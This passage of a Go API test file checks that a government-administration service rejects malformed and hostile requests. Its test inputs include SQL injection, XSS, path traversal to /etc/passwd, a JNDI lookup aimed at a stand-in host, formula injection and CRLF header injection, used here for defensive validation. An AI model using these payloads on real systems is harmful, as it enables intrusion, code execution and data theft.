package api_test

import (
	"encoding/binary"
	"net/url"
	"strings"
	"testing"
	"unicode/utf8"
)

// What is written well and says what cannot be: by the rooms of the server.
func (s *standing) wrongContents(*testing.T) (list []bad) {
	add := func(name, method, path, body string, status int, code string, header ...string) {
		list = append(list, bad{name: name, method: method, path: path, body: body, header: header, status: status, code: code})
	}
	s.wrongAddresses(add)
	s.wrongQuestions(add)
	s.wrongEvents(add)
	s.wrongPlans(add)
	s.wrongDrafts(add)
	s.wrongLaw(add)
	s.wrongDossiers(add)
	s.wrongPetitions(add)
	s.wrongFigures(add)
	s.wrongFiles(add)
	return list
}

// adder adds a bad request.
type adder func(name, method, path, body string, status int, code string, header ...string)

// hostile is texts that look like something else to a database, a page, a file
// system, a terminal or a person.
var hostile = []string{
	`'; DROP TABLE log; --`, `1' OR '1'='1`, `" UNION SELECT * FROM log --`, `<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`,
	`../../../../etc/passwd`, `..\..\windows\win.ini`, `%00`, `${jndi:ldap://evil.example}`, `{{7*7}}`, `=cmd|' /C calc'!A0`, "\r\nSet-Cookie: a=b", "\x1b[2J", "%s%n",
}

// Addresses that are none, and such as try to leave theirs.
func (s *standing) wrongAddresses(add adder) {
	for _, path := range []string{"/api/v1/none", "/api/v2/plans", "/api/v1", "/api/v1/", "/api/v1/plans/", "/api/v1//plans", "/api/v1/./plans", "/api/v1/x/../plans", "/api/v1/%2e%2e/plans", "/api/v1/..%2fplans", "/api/v1/plans%00", "/api/v1/Plans",
		"/api/v1/drafts/", "/api/v1/drafts/%2e%2e%2f%2e%2e%2fetc%2fpasswd/x", "/api/v1/drafts//accept", "/api/v1/openapi.yaml/", "/api/v1/../../etc/passwd", "/api/.git/config", "/api/v1/drafts/a/b/c"} {
		add("address", "GET", path, "", 404, "not-found")
	}
	add("address", "POST", "/api/v1//events", "{}", 404, "not-found")
	add("address", "POST", "/api/v1/openapi.yaml", "{}", 405, "method")
	for _, id := range append(hostile, "00000000-0000-0000-0000-000000000000", strings.Repeat("x", 5000), "\u202e", "\xff") {
		add("another's identifier", "GET", "/api/v1/drafts/"+url.PathEscape(id), "", 404, "unknown-draft")
	}
}

// Questions about what is not there, or that mean nothing.
func (s *standing) wrongQuestions(add adder) {
	get := func(name string, status int, code, path string, query ...string) {
		add(name, "GET", at("/api/v1/"+path, query...), "", status, code)
	}
	for _, text := range hostile {
		unseen := 400
		if !strings.ContainsAny(text, "\r\x1b") {
			unseen = 404
		}
		code := func(unknown string) string {
			if unseen == 400 {
				return "bad-parameter"
			}
			return unknown
		}
		get("hostile", unseen, code("unknown-plan"), "due", "plan", text)
		get("hostile", unseen, code("unknown-plan"), "plan", "plan", text)
		get("hostile", unseen, code("unknown-plan"), "plan/versions", "plan", text)
		get("hostile", unseen, code("unknown-obligation"), "events", "obligation", text)
		get("hostile", unseen, code("unknown-dossier"), "dossier", "code", text)
		get("hostile", 404, "unknown-body", "due", "plan", number, "body", text)
		get("hostile", 404, "unknown-body", "body", "name", text)
		get("hostile", 400, "bad-parameter", "due", "plan", number, "asOf", text)
		get("hostile", 400, "bad-parameter", "bodies", "class", text)
		get("hostile", 400, "bad-parameter", "deadline", "from", "2024-04-25", "term", text)
		get("hostile", 400, "bad-parameter", "report", "plan", number, "period", text)
	}
	for _, day := range []string{"2024-02-30", "2024-13-01", "20240625", "25/6/2024", "0000-00-00", "2024-6-5", "tomorrow", "", " 2024-06-25", "2024-06-25T00:00:00Z", "-2024-06-25", "10000-01-01", "२०२४-०६-२५"} {
		for _, path := range []string{"due", "body?name=VPCP", "tally", "calendar?year=2024&knownOn="} {
			of, rest, _ := strings.Cut(path, "?")
			if rest == "" {
				get("no day", 400, "bad-parameter", of, "asOf", day)
			} else if strings.Contains(rest, "knownOn") {
				get("no day", 400, "bad-parameter", of, "year", "2024", "knownOn", day)
			} else {
				get("no day", 400, "bad-parameter", of, "name", "VPCP", "asOf", day)
			}
		}
	}
	for _, period := range []string{"", "2024-13", "2024-Q5", "2024-H3", "24", "2024/06", "Q2-2024", "2024-06-25", strings.Repeat("9", 900)} {
		get("no period", 400, "bad-parameter", "report", "plan", number, "period", period)
		get("no period", 400, "bad-parameter", "tally", "first", period)
	}
	for _, q := range [][2]string{{"first", "2024-07"}, {"last", "2024-Q1"}, {"grain", "quarter"}} {
		get("periods of two lengths", 400, "bad-parameter", "tally", "first", "2024-06", "last", "2024-05", q[0]+"", q[1])
	}
	for _, term := range []string{"", "5", "ngày", "-", "99999999999999999999 ngày", "1e9 ngày làm việc", "5 ngày làm việc rưỡi nữa"} {
		get("no term", 400, "bad-parameter", "deadline", "from", "2024-04-25", "term", term)
	}
	for _, pause := range []string{"", "..", "2024-04-26", "2024-04-28..2024-04-26", "2024-04-26..x", "2024-04-26...2024-04-27"} {
		get("no pause", 400, "bad-parameter", "deadline", "from", "2024-04-25", "term", "5 ngày làm việc", "pause", pause)
	}
	for _, hour := range []string{"", "25:00", "15", "15:60", "3pm", "15:00:00"} {
		get("no hour", 400, "bad-parameter", "deadline", "from", "2024-04-25T10:00", "term", "5 ngày làm việc", "cutOff", hour)
	}
	for _, within := range []string{"", "30", "d", "-1d", "1.5d", "99999999999999999999d", "30 d"} {
		get("no span", 400, "bad-parameter", "due", "plan", number, "within", within)
	}
	for _, cursor := range []string{"x", "-1", "1.5", "99999999", "9223372036854775808", "1e3", " 1"} {
		get("no cursor", 410, "unknown-cursor", "changes", "after", cursor)
	}
	for _, path := range []string{"drafts", "notices", "bodies"} {
		get("no row", 400, "bad-parameter", path, "after", "none such")
	}
	get("no row", 400, "bad-parameter", "due", "plan", number, "after", "none such")
	get("no row", 400, "bad-parameter", "events", "obligation", obligation, "after", "none such")
	get("no row", 400, "bad-parameter", "plan/versions", "plan", number, "after", "none such")
	get("no row", 400, "bad-parameter", "tally", "after", "none such")
	for _, year := range []string{"1999", "2101", "0", "-2024"} {
		get("no year", 400, "bad-parameter", "calendar", "year", year)
	}
	get("another's identifier", 404, "unknown-obligation", "events", "obligation", "240/QĐ-TTg#15#to-pho#2024-03-19")
	get("another's identifier", 404, "ended-body", "due", "plan", "240/QĐ-TTg", "asOf", "2025-06-01", "body", "G14")
	// As long as a name may be here, and of many words: what compares it with all names is soon done.
	for _, long := range []string{strings.Repeat("x", 1000), strings.Repeat("ủy ban ", 100), strings.Repeat("a ", 499), strings.Repeat("ộ", 333), strings.Repeat("\u0301", 499)} {
		get("a long name", 404, "unknown-body", "body", "name", long)
		get("a long name", 404, "unknown-body", "due", "plan", number, "body", long)
		get("a long name", 404, "unknown-body", "bodies", "under", long)
		get("a long name", 404, "unknown-plan", "plan", "plan", long)
	}
	for _, path := range []string{"drafts/" + s.sample["id"]} {
		add("method", "DELETE", "/api/v1/"+path, "", 405, "method")
	}
}

// Events that nobody could record.
func (s *standing) wrongEvents(add adder) {
	const whole = `{"v":1,"id":"key-0009","obligation":"` + obligation + `","type":"done","day":"2024-03-18","document":"5/BC"}`
	event := func(name, from, to string, status int, code string) {
		add(name, "POST", "/api/v1/events", strings.Replace(whole, from, to, 1), status, code)
		if code == "bad-event" {
			add(name+" among many", "POST", "/api/v1/events", strings.Replace(whole, "key-0009", "key-0010", 1)+"\n"+strings.Replace(whole, from, to, 1)+"\n", status, code, "Content-Type", "application/x-ndjson")
		}
	}
	wrong := func(name, from, to string) { event(name, from, to, 400, "bad-event") }
	for _, field := range []string{`"v":1,`, `"id":"key-0009",`, `"type":"done",`, `"day":"2024-03-18",`} {
		wrong("a field is missing", field, "")
	}
	for _, value := range []string{"1", "true", "[]", "{}", "null", `""`, `["key-0009"]`, `{"$ne":""}`} {
		wrong("a wrong type", `"key-0009"`, value)
		wrong("a wrong type", `"done"`, value)
		wrong("a wrong type", `"2024-03-18"`, value)
	}
	for _, r := range []string{`\u0000`, `\u0007`, `\n`, `\u001b[2J`, `\u200b`, `\u200d`, `\u200f`, `\u202a`, `\u202e`, `\u2066`, `\u2069`, `\ufeff`, `\u00ad`, `\u2060`, `\ufe0f`, `\udb40\udc41`, `\u2028`, `\u3164`} {
		wrong("an unseen character in an identifier", "key-0009", "key-0009"+r)
	}
	wrong("a length", "key-0009", "k")
	wrong("a length", "key-0009", strings.Repeat("k", 101))
	wrong("a length", "5/BC", strings.Repeat("5", 201))
	wrong("a length", `"document":"5/BC"`, `"note":"`+strings.Repeat("x", 4001)+`"`)
	wrong("a length", `"document":"5/BC"`, `"by":"`+strings.Repeat("x", 301)+`"`)
	for _, day := range []string{"2024-02-30", "2024-06-26", "18/3/2024", "2024-03-18T00:00:00Z", "9999-12-31", "1024-03-18"} {
		wrong("a day", `"2024-03-18"`, `"`+day+`"`)
	}
	for _, text := range []string{`'; DROP TABLE log; --`, `<script>alert(1)</script>`, "DONE", "done ", "deleted"} {
		wrong("hostile", `"done"`, `"`+text+`"`)
	}
	for _, text := range []string{`'; DROP TABLE log; --`, `<script>alert(1)</script>`, "../../etc/passwd", "16/QĐ-TCTCCTTHC#15#to-pho#2024-03-20", "16/QĐ-TCTCCTTHC#15#to-pho", "7/KH-UBND#9#x#2024-03-31", strings.Repeat("x", 10_000)} {
		event("another's identifier", obligation, text, 404, "unknown-obligation")
	}
	wrong("what the server writes", `"v":1,`, `"v":1,"recorded":"2024-03-18T08:00:00+07:00",`)
	wrong("an unknown key", `"v":1,`, `"v":1,"status":"done-on-time",`)
	wrong("a doubled key", `"v":1,`, `"v":1,"id":"key-0008",`)
	wrong("corrects nothing", `"document"`, `"corrects":"none-such","document"`)
	wrong("an extension without a day", `"done"`, `"extended"`)
	replayed := strings.NewReplacer("key-0009", "key-0001", "5/BC", "6/BC").Replace(whole)
	add("replayed with other content", "POST", "/api/v1/events", replayed, 422, "key-reused")
	add("replayed with other content", "POST", "/api/v1/events", replayed+"\n", 400, "bad-event", "Content-Type", "application/x-ndjson")
	add("one key twice", "POST", "/api/v1/events", whole+"\n"+strings.Replace(whole, "5/BC", "6/BC", 1)+"\n", 400, "bad-event", "Content-Type", "application/x-ndjson")
	add("too many", "POST", "/api/v1/events", strings.Repeat(whole+"\n", 10_001), 400, "bad-event", "Content-Type", "application/x-ndjson")
	add("oversized", "POST", "/api/v1/events", strings.Replace(whole, "5/BC", strings.Repeat("x", 64<<10), 1), 413, "too-large")
	add("oversized", "POST", "/api/v1/events", strings.Repeat(" ", 16<<20+1), 413, "too-large", "Content-Type", "application/x-ndjson")
	for _, lines := range []string{"{", whole + "\n{\n", "\n\nnull\n", "\x00", whole + "\r" + whole, whole + "," + whole, "[" + whole + "]", utf16Text(binary.LittleEndian, whole), strings.Repeat("[", 30_000)} {
		add("no lines of JSON", "POST", "/api/v1/events", lines, 400, "bad-event", "Content-Type", "application/x-ndjson")
	}
}

// Plans that nobody could carry out.
func (s *standing) wrongPlans(add adder) {
	fresh := strings.Replace(small, "7/KH-UBND", "8/KH-UBND", 1)
	plan := func(name, from, to string) {
		add(name, "POST", "/api/v1/plans", strings.Replace(fresh, from, to, 1), 400, "bad-plan")
	}
	for _, field := range []string{`"v":1,`, `"number":"8/KH-UBND",`, `"title":"Kế hoạch",`, `"issuer":"UBND tỉnh Bắc Ninh",`, `"from":"2024-01-01",`, `"to":"2024-12-31",`, `"id":"1",`, `"title":"Rà soát quy định",`, `"leads":["Sở Tư pháp"],`} {
		plan("a field is missing", field, "")
	}
	for _, value := range []string{"1", "[]", "{}", "null", `""`, `" "`} {
		plan("a wrong type", `"8/KH-UBND"`, value)
		plan("a wrong type", `"UBND tỉnh Bắc Ninh"`, value)
		plan("a wrong type", `["Sở Tư pháp"]`, value)
	}
	for _, r := range []string{`\u0000`, `\n`, `\u200b`, `\u202e`, `\u2067`, `\ufeff`, `#`} {
		plan("an unseen character in an identifier", "8/KH-UBND", "8/KH"+r)
		plan("an unseen character in an identifier", `"id":"1"`, `"id":"1`+r+`"`)
	}
	plan("a length", "8/KH-UBND", strings.Repeat("8", 301))
	plan("a length", "Kế hoạch", strings.Repeat("ế", 301))
	plan("a day", "2024-01-10", "2024-02-30")
	plan("a day", `"to":"2024-12-31"`, `"to":"2023-12-31"`)
	plan("a day", "2024-03-31", "2030-03-31")
	plan("one task twice", `"id":"2"`, `"id":"1"`)
	plan("one body twice", `["Sở Tư pháp"]`, `["Sở Tư pháp","Sở  tư pháp"]`)
	plan("an unknown key", `"v":1,`, `"v":1,"admin":true,`)
	plan("a doubled key", `"v":1,`, `"v":1,"number":"7/KH-UBND",`)
	plan("a huge number", `"exclusive":true`, `"exclusive":true,"month":1e300`)
	plan("a length", `["Sở Tư pháp"]`, `["`+strings.Repeat("ủy ban ", 300)+`"]`)
	daily := strings.NewReplacer(`"2024-12-31"`, `"2100-12-31"`, `{"kind":"continuous"}`, `{"kind":"recurring","every":["P1D"]}`, `["Văn phòng"]`, `["Văn phòng","Sở Tài chính"]`).Replace(fresh)
	add("more duties than anybody has", "POST", "/api/v1/plans", daily, 400, "bad-plan")
	plan("no rule", `"kind":"deadline"`, `"kind":"<script>"`)
	plan("no rule", `"kind":"continuous"`, `"kind":"recurring","every":["P99999999999999999999M"]`)
	add("replayed with other content", "POST", "/api/v1/plans", strings.Replace(small, "Rà soát", "Kiểm tra", 1), 409, "plan-exists")
	add("another's identifier", "POST", "/api/v1/plans", strings.Replace(small, "7/KH-UBND", number, 1), 409, "plan-exists")
	add("oversized", "POST", "/api/v1/plans", strings.Repeat(" ", 4<<20+1), 413, "too-large")
	own := at("/api/v1/plan", "plan", "7/KH-UBND")
	for _, tag := range []string{"", "1", `"x"`, `W/"1"`, `"-1"`, `"01"`, `"7", "8"`, `"x, "1""`, "**", `"99999999999999999999"`} {
		status, code := 412, "version-conflict"
		if tag == "" {
			status, code = 428, "precondition-required"
		}
		add("no version", "PUT", own, small, status, code, "If-Match", tag)
		add("no version", "PUT", "/api/v1/drafts/"+s.sample["id"], small, status, code, "If-Match", tag)
		add("no version", "POST", "/api/v1/drafts/"+s.sample["id"]+"/accept", "", status, code, "If-Match", tag)
	}
	add("another version", "PUT", own, strings.Replace(small, "Rà soát", "Kiểm tra", 1), 412, "version-conflict", "If-Match", `"0"`)
	add("another version", "PUT", own, strings.Replace(small, "Rà soát", "Kiểm tra", 1), 412, "version-conflict", "If-Match", `"7"`)
	add("another's identifier", "PUT", own, strings.Replace(small, "7/KH-UBND", "9/KH-UBND", 1), 400, "bad-plan", "If-Match", `"1"`)
	add("another's identifier", "PUT", at("/api/v1/plan", "plan", "9/KH-UBND"), strings.Replace(small, "7/KH-UBND", "9/KH-UBND", 1), 404, "unknown-plan", "If-Match", `"1"`)
}

// Files that hold no table, and drafts of others.
func (s *standing) wrongDrafts(add adder) {
	octets := []string{"Content-Type", "application/octet-stream"}
	for _, name := range []string{"bang", "bang.exe", "../../etc/passwd", "bang.xlsx\x01", "a.csv/", ".csv.gz", "<script>.html.js"} {
		add("no table", "POST", at("/api/v1/drafts", "name", name, "year", "2024"), "a,b\n", 400, "bad-file", octets...)
	}
	for _, name := range []string{"bang.csv", "bang.tsv", "bang.html", "bang.xlsx", "bang.docx", "bang.pdf"} {
		for _, file := range []string{"", "\x00\x00\x00\x00", "PK\x03\x04", "%PDF-1.7\n", "<html>", "\xff\xfe\x00", strings.Repeat("<table>", 20_000), strings.Repeat("a,", 20_000), "'; DROP TABLE log; --"} {
			add("no table", "POST", at("/api/v1/drafts", "name", name, "year", "2024"), file, 400, "bad-file", octets...)
		}
	}
	table := "Stt\tNhiệm vụ\tChủ trì\tThời gian\n1\tRà soát\tSở Tư pháp\tTrước ngày 30/6/2024\n"
	for _, q := range [][2]string{{"column", "x"}, {"column", "=title"}, {"column", "Stt=nothing"}, {"from", "2024-02-30"}, {"to", "x"}, {"sheet", "none"}, {"year", "99999"}, {"number", "1\u200b"}} {
		add("a wrong parameter", "POST", at("/api/v1/drafts", "name", "bang.tsv", "year", map[bool]string{true: q[1], false: "2024"}[q[0] == "year"])+map[bool]string{true: "", false: "&" + url.Values{q[0]: {q[1]}}.Encode()}[q[0] == "year"], table, 400, "bad-parameter", octets...)
	}
	add("another's identifier", "PUT", "/api/v1/drafts/none-such", small, 404, "unknown-draft", "If-Match", `"1"`)
	add("another's identifier", "POST", "/api/v1/drafts/none-such/accept", "", 404, "unknown-draft", "If-Match", `"1"`)
	add("another version", "POST", "/api/v1/drafts/"+s.sample["id"]+"/accept", "", 412, "version-conflict", "If-Match", `"2"`)
	add("another version", "PUT", "/api/v1/drafts/"+s.sample["id"], small, 412, "version-conflict", "If-Match", `"2"`)
}

// Notices and bodies that cannot be.
func (s *standing) wrongLaw(add adder) {
	const notice = `{"v":1,"notices":[{"number":"2/TB","issued":"2024-06-01","days":[{"day":"2024-08-07","kind":"swap-off","for":"2024-08-10","reason":{"vi":"nghỉ"}},{"day":"2024-08-10","kind":"swap-working","for":"2024-08-07","reason":{"vi":"làm bù"}}]}]}`
	for name, c := range map[string][2]string{
		"no number": {`"number":"2/TB",`, ""}, "an empty number": {"2/TB", ""}, "an unseen character in an identifier": {"2/TB", `2/TB\u200b`}, "a turned identifier": {"2/TB", `2/TB\u202e`}, "a NUL": {"2/TB", `2\u0000`},
		"no day": {"2024-08-07", "2024-02-30"}, "no kind": {"swap-off", "<script>"}, "no reason": {`"reason":{"vi":"nghỉ"}`, `"reason":{}`}, "no year": {`"issued"`, `"settles":[99999],"issued"`},
		"an unknown key": {`"issued"`, `"x":1,"issued"`}, "a doubled key": {`"issued"`, `"number":"3/TB","issued"`}, "a wrong type": {`"2/TB"`, "2"}, "withdraws nothing": {`"issued"`, `"withdraws":[""],"issued"`},
		"replayed with other content": {"2/TB", "1/TB"},
	} {
		add("a notice: "+name, "POST", "/api/v1/notices", strings.Replace(notice, c[0], c[1], 1), 400, "bad-law")
		add("a notice to try: "+name, "POST", "/api/v1/notices?try=true", strings.Replace(notice, c[0], c[1], 1), 400, "bad-law")
	}
	for name, body := range map[string]string{
		"no identifier": `"amendments":[{"on":"2024-06-01","kind":"rename","name":"x","source":"NQ 1"}]`, "nobody": `"amendments":[{"id":"G99","on":"2024-06-01","kind":"rename","name":"x","source":"NQ 1"}]`,
		"hostile": `"amendments":[{"id":"'; DROP TABLE log; --","on":"2024-06-01","kind":"rename","name":"x","source":"NQ 1"}]`, "turned": `"amendments":[{"id":"G22\u202e","on":"2024-06-01","kind":"rename","name":"x","source":"NQ 1"}]`,
		"no width": `"amendments":[{"id":"G2\u200b2","on":"2024-06-01","kind":"rename","name":"x","source":"NQ 1"}]`, "no day": `"amendments":[{"id":"G22","on":"2024-06-31","kind":"rename","name":"x","source":"NQ 1"}]`,
		"no kind": `"amendments":[{"id":"G22","on":"2024-06-01","kind":"delete","name":"x","source":"NQ 1"}]`, "unknown key": `"bodies":[{"admin":true}]`, "no bodies": `"bodies":{}`, "succeeds nobody": `"successions":[{"from":"G98","to":"G99"}]`,
	} {
		add("bodies: "+name, "POST", "/api/v1/bodies", `{"v":1,`+body+`}`, 400, "bad-law")
	}
	for _, name := range []string{"units", "units.exe", "../units"} {
		add("no units", "POST", at("/api/v1/bodies", "name", name), "a,b\n", 400, "bad-file", "Content-Type", "application/octet-stream")
	}
	for _, file := range []string{"", "\x00", "a,b\n1,2\n", "<html>", strings.Repeat("a,", 20_000)} {
		add("no units", "POST", at("/api/v1/bodies", "name", "units.csv"), file, 400, "bad-file", "Content-Type", "application/octet-stream")
	}
	for _, known := range []string{`[{"kind":"x","text":"a"}]`, `{}`, `[1]`, `[{"kind":"name"}]`, `[{"text":"a"}]`, `null`} {
		add("redact", "POST", "/api/v1/redact", `{"text":"x","known":`+known+`}`, 400, "bad-content")
	}
	add("redact", "POST", "/api/v1/redact", `{}`, 400, "bad-content")
	add("redact", "POST", "/api/v1/redact", `{"text":"`+strings.Repeat("x", 5<<20)+`"}`, 413, "too-large")
}

// Dossiers that cannot be; of many, whole or none.
func (s *standing) wrongDossiers(add adder) {
	const one = `{"code":"x-1","revision":1,"body":"H26.1","procedure":"1.000001","status":4,"received":"2024-06-03"}`
	wrong := func(name, from, to string) {
		add(name, "POST", dossiersPath, strings.Replace(one, from, to, 1), 400, "bad-dossier")
	}
	for _, field := range []string{`"code":"x-1",`, `"body":"H26.1",`, `"procedure":"1.000001",`, `"status":4,`} {
		wrong("a field is missing", field, "")
	}
	for _, value := range []string{"1", "[]", "{}", "true", `""`} {
		wrong("a wrong type", `"x-1"`, value)
		wrong("a wrong type", `"H26.1"`, value)
		wrong("a wrong type", `"1.000001"`, value)
		wrong("a wrong type", `"2024-06-03"`, value)
	}
	for _, value := range []string{"0", "11", "4.5", "-1", "1e300", `"four"`, strings.Repeat("9", 500)} {
		wrong("a huge number", `"status":4`, `"status":`+value)
	}
	for _, r := range []string{`\u0000`, `\u0007`, `\n`, `\u200b`, `\u202e`, `\u2066`, `\ufeff`, `#`} {
		wrong("an unseen character in an identifier", "x-1", "x-1"+r)
	}
	for _, text := range []string{`'; DROP TABLE log; --`, `<script>`, `H26\u202e`, `H26\u200b`} {
		wrong("hostile", `"H26.1"`, `"`+text+`"`)
	}
	wrong("a length", "x-1", strings.Repeat("x", 101))
	wrong("a day", "2024-06-03", "2024-02-30")
	wrong("a day", "2024-06-03", "2024-06-26")
	wrong("a doubled key", `"status":4`, `"status":4,"status":10`)
	wrong("an unknown key", `"status":4`, `"status":4,"holder":"Nguyễn Văn Mẫu"`)
	add("replayed with other content", "POST", dossiersPath, `{"code":"H26.1-1","revision":1,"body":"H26.1","procedure":"1.000001","status":4,"received":"2024-06-03"}`, 422, "key-reused")
	add("oversized", "POST", dossiersPath, strings.Repeat(" ", 64<<10+1), 413, "too-large")
	for _, media := range []string{"text/csv", "application/x-ndjson"} {
		for name, body := range map[string]string{"no rows": "\x00\x00", "encoding": utf16Text(binary.LittleEndian, table), "a bad row": strings.Replace(table, "H26.1-1,H26.1", "H26.1-1,x", 1), "deep": strings.Repeat("[", 30_000), "one endless line": strings.Repeat("x", 1<<20), "SQL": "'; DROP TABLE log; --"} {
			if media == "text/csv" && name == "encoding" {
				continue // a table may be in UTF-16, as spreadsheets write it
			}
			add("many: "+name, "POST", dossiersPath+"?whole=true", body, 400, "bad-dossier", "Content-Type", media)
		}
	}
	for _, body := range []string{"null", "1", `"x"`, `{"hoSo":1}`, `{"hoSo":{"MaHoSo":1}}`, "[{}]", "{", strings.Repeat("[", 30_000), strings.Repeat(`{"hoSo":`, 10_000), "\xff\xfe{", "<hoSo/>"} {
		add("an exchange", "POST", "/api/v1/dossiers/exchange?whole=true", body, 400, "bad-dossier")
	}
}

// What cannot have happened to a petition, and petitions of others.
func (s *standing) wrongPetitions(add adder) {
	const whole = `{"v":1,"code":"PAKN.20240604.0002","at":"2024-06-04T08:00:00+07:00","type":"submitted","to":"H26","kind":"reflection","subject":"procedure","channel":"portal","content":"Nội dung","sender":{"type":"citizen","name":"Người Gửi","phone":"0900000000"}}`
	wrong := func(name, from, to string) {
		add(name, "POST", "/api/v1/petitions", strings.Replace(whole, from, to, 1), 400, "bad-")
		add(name+" among many", "POST", "/api/v1/petitions", strings.Replace(whole, "0002", "0003", 1)+"\n"+strings.Replace(whole, from, to, 1)+"\n", 400, "bad-", "Content-Type", "application/x-ndjson")
	}
	for _, field := range []string{`"v":1,`, `"code":"PAKN.20240604.0002",`, `"at":"2024-06-04T08:00:00+07:00",`, `"type":"submitted",`, `"to":"H26",`, `"content":"Nội dung",`} {
		wrong("a field is missing", field, "")
	}
	for _, value := range []string{"1", "true", "[]", "null", `""`} {
		wrong("a wrong type", `"PAKN.20240604.0002"`, value)
		wrong("a wrong type", `"submitted"`, value)
		wrong("a wrong type", `"2024-06-04T08:00:00+07:00"`, value)
	}
	for _, text := range []string{`PAKN.20240604.0002\u200b`, `PAKN.20240604\u202e.0002`, `PAKN.20240604.0002\u0000`, `'; DROP TABLE log; --`, `<script>alert(1)</script>`, "../../etc/passwd", "PAKN.20240631.0002", "pakn.20240604.0002", "PAKN.20240604." + strings.Repeat("9", 100)} {
		wrong("an identifier", "PAKN.20240604.0002", text)
		wrong("hostile", `"submitted"`, `"`+text+`"`)
		wrong("hostile", `"H26"`, `"`+text+`"`)
	}
	for _, at := range []string{"2024-06-31T08:00:00+07:00", "2024-06-04", "2024-06-26T08:00:00+07:00", "2024-06-04T25:00:00+07:00", "yesterday"} {
		wrong("an instant", "2024-06-04T08:00:00+07:00", at)
	}
	wrong("an unknown key", `"v":1,`, `"v":1,"state":"answered",`)
	wrong("a doubled key", `"v":1,`, `"v":1,"type":"withdrawn",`)
	add("oversized", "POST", "/api/v1/petitions", strings.Replace(whole, "Nội dung", strings.Repeat("x", 16<<20), 1), 413, "too-large")
	event := func(name, rest string, status int, code string) {
		add(name, "POST", "/api/v1/petitions", `{"v":1,"code":"PAKN.20240603.0001","at":"2024-06-05T08:00:00+07:00",`+rest+`}`, status, code)
	}
	event("not in this state", `"type":"accepted","by":"H26"`, 400, "bad-")
	event("not in this state", `"type":"published","by":"H26"`, 400, "bad-")
	event("another's petition", `"type":"answered","by":"H01","document":"1/TL","content":"x","outcome":"resolved"`, 400, "bad-")
	event("another's petition", `"type":"refused","by":"H26.1","reason":"x"`, 400, "bad-")
	add("of nobody", "POST", "/api/v1/petitions", `{"v":1,"code":"PAKN.20240604.0009","at":"2024-06-05T08:00:00+07:00","type":"accepted","by":"H26"}`, 400, "bad-")
	add("replayed with other content", "POST", "/api/v1/petitions", strings.NewReplacer("20240604.0002", "20240603.0001", "2024-06-04", "2024-06-03", "Nội dung", "Khác").Replace(whole), 400, "bad-")
	for _, code := range []string{"PAKN.20240603.0009", "x", "PAKN.20240603.0001%20", "PAKN.20240603.0001%00", "pakn.20240603.0001", "%27%20OR%201=1--", "%E2%80%AE", strings.Repeat("x", 3000)} {
		for _, path := range []string{"/api/v1/petitions/%s", "/api/v1/petitions/%s/events", "/api/v1/petitions/%s/like", "/api/v1/petitions/%s/draft", "/api/v1/public/petitions/%s"} {
			add("another's identifier", "GET", strings.Replace(path, "%s", code, 1), "", 404, "unknown-petition")
		}
	}
	own := "/api/v1/petitions/PAKN.20240603.0001/publication"
	add("no version", "PUT", own, `{"masks":[]}`, 428, "precondition-required", "If-Match", "")
	add("no version", "PUT", own, `{"masks":[]}`, 412, "version-conflict", "If-Match", `W/"3"`)
}

// Observations that are none, and figures of what is not there.
func (s *standing) wrongFigures(add adder) {
	header, _, _ := strings.Cut(observed, "\n")
	for name, row := range map[string]string{
		"no body": "766/2.1,nobody,2024-05,1,2,2024-06-03,x", "no period": "766/2.1,H01,2024-13,1,2,2024-06-03,x",
		"more than all": "766/2.1,H01,2024-05,101,100,2024-06-03,x", "below nothing": "766/2.1,H01,2024-05,-1,100,2024-06-03,x", "a huge number": "766/2.1,H01,2024-05," + strings.Repeat("9", 400) + ",1,2024-06-03,x",
		"no number": "766/2.1,H01,2024-05,NaN,100,2024-06-03,x", "an exponent": "766/2.1,H01,2024-05,1e3,1e4,2024-06-03,x", "no day": "766/2.1,H01,2024-05,1,2,2024-06-31,x", "a day to come": "766/2.1,H01,2024-05,1,2,2024-06-26,x",
		"SQL": "766/2.1,'; DROP TABLE log; --,2024-05,1,2,2024-06-03,x", "HTML": "766/2.1,<script>alert(1)</script>,2024-05,1,2,2024-06-03,x", "turned": "766/2.1\u202e,H01,2024-05,1,2,2024-06-03,x", "of no width": "766/2.1,H0\u200b1,2024-05,1,2,2024-06-03,x",
		"too few fields": "766/2.1,H01", "too many fields": "766/2.1,H01,2024-05,1,2,2024-06-03,x,y,z", "an open quote": `"766/2.1,H01,2024-05,1,2,2024-06-03,x`, "NUL": "766/2.1,H01\x00,2024-05,1,2,2024-06-03,x", "latin-1": "766/2.1,H01,2024-05,1,2,2024-06-03,b\xe1o",
	} {
		add("an observation: "+name, "POST", "/api/v1/observations?whole=true", header+"\n"+row+"\n", 400, "bad-observation", "Content-Type", "text/csv")
	}
	add("replayed with other content", "POST", "/api/v1/observations?whole=true", strings.Replace(observed, "95,100", "96,100", 1), 422, "key-reused", "Content-Type", "text/csv")
	for _, text := range hostile {
		for _, path := range []string{"score", "evaluation", "ranking"} {
			add("hostile", "GET", at("/api/v1/"+path, "set", text, "period", "2024-05"), "", 400, "bad-parameter")
		}
		add("hostile", "GET", at("/api/v1/set", "set", text), "", 400, "bad-parameter")
		add("hostile", "GET", at("/api/v1/score", "set", "766", "period", text), "", 400, "bad-parameter")
		add("hostile", "GET", at("/api/v1/closing", "period", text), "", 400, "bad-parameter")
	}
	for _, body := range []string{`{"on":"2024-06-31"}`, `{"on":1}`, `{"on":"2024-06-26"}`, `{"by":"<script>"}`} {
		add("a closing", "PUT", "/api/v1/closing?period=2024-05", body, 400, "bad-", "If-Match", s.sample["closePeriod.If-Match"])
	}
	add("no version", "PUT", "/api/v1/closing?period=2024-05", "{}", 428, "precondition-required", "If-Match", "")
}

// Files that are none of those that may be attached, that are declared to be another,
// and such as come under an identifier that is none or is used.
func (s *standing) wrongFiles(add adder) {
	evidence := func(id string) string { return at("/api/v1/evidence/"+url.PathEscape(id), "obligation", obligation) }
	for path, of := range map[string]string{evidence("tep-0002"): "evidence", "/api/v1/petitions/PAKN.20240603.0001/attachments/tep-0002?of=answer": "petition"} {
		put := func(name, body string, status int, code, media string, header ...string) {
			add(name+": "+of, "PUT", path, body, status, code, append([]string{"Content-Type", media}, header...)...)
		}
		put("an empty file", "", 400, "bad-attachment", "text/plain")
		for _, body := range []string{"<!doctype html><script>alert(1)</script>", `<svg onload="alert(1)"/>`, "PK\x03\x04\x14\x00", "MZ\x90\x00", "#!/bin/sh\n", "\x7fELF", "a\x00b", "K\xea ho\xe1ch", "\xff\xfea\x00", `{\rtf1}`} {
			put("no file that is taken", body, 400, "bad-attachment", "text/plain")
		}
